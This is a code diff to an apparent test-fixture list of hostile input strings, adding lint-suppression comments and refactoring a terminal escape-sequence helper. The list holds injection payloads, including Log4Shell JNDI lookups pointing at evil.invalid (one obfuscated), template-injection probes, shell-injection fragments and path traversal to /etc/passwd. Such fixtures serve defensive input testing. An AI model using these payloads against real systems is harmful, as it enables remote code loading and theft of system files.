@@ -93,9 +93,11 @@ const MARKDOWN = [
   '<@U12345>',
   '{{DATE(2017-02-14T06:08:39Z, SHORT)}}',
   '{{TIME(2017-02-14T06:08:39Z)}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the string is hostile as it stands
   '${name}',
   '{{name}}',
   '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the string is hostile as it stands
   '${{7*7}}',
   '#{7*7}',
   '<%= 7*7 %>',
@@ -141,13 +143,7 @@ const ENDS = [
 const TERMINAL = ENDS.flatMap(end => [
   `${ESC}${end}`,
   `x${ESC}${ESC}${end}`,
-  end.startsWith('[')
-    ? `\u009b${end.slice(1)}`
-    : end.startsWith(']')
-      ? `\u009d${end.slice(1)}`
-      : end.startsWith('P')
-        ? `\u0090${end.slice(1)}`
-        : `\r\n${ESC}${end}`
+  inOneByte(end)
 ]).concat([
   'over\rwritten',
   'back\b\b\b\bspace',
@@ -237,7 +233,9 @@ const INJECTIONS = [
   '&& hit',
   '%COMSPEC%',
   '$env:PATH',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the string is hostile as it stands
   '${jndi:ldap://evil.invalid/x}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the string is hostile as it stands
   '${${lower:j}ndi:rmi://evil.invalid}',
   '../../../../etc/passwd',
   '..\\..\\windows\\win.ini',
@@ -301,3 +299,9 @@ export const HOSTILE: readonly Hostile[] = [
   ...named('cell', CELLS),
   ...named('injection', INJECTIONS)
 ].filter(({ text }, index, all) => all.findIndex(other => other.text === text) === index)
+
+/** The same order as one character of C1, where there is one; else behind a line's end. */
+function inOneByte(end: string): string {
+  const single = { '[': '\u009b', ']': '\u009d', P: '\u0090' }[end.charAt(0)]
+  return single === undefined ? `\r\n${ESC}${end}` : `${single}${end.slice(1)}`
+}
